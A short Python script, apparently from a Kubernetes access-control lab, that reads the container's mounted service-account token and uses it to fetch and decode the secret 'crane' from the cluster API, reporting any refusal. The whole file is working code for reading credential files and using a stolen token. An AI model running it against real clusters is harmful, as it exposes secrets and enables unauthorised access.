"""What someone does who can run a program in a container: use the token that lies there."""

import base64
import json
import ssl
import urllib.error
import urllib.request

ACCOUNT = "/var/run/secrets/kubernetes.io/serviceaccount"
SECRET = "https://kubernetes.default.svc/api/v1/namespaces/lab-24-access/secrets/crane"

try:
    with open(f"{ACCOUNT}/token") as file:
        request = urllib.request.Request(SECRET, headers={"Authorization": "Bearer " + file.read().strip()})
    trust = ssl.create_default_context(cafile=f"{ACCOUNT}/ca.crt")
    with urllib.request.urlopen(request, timeout=5, context=trust) as answer:
        print("The code of the crane:", base64.b64decode(json.load(answer)["data"]["code"]).decode())
except urllib.error.HTTPError as error:
    print(f"Refused with status {error.code}:", json.load(error)["message"])
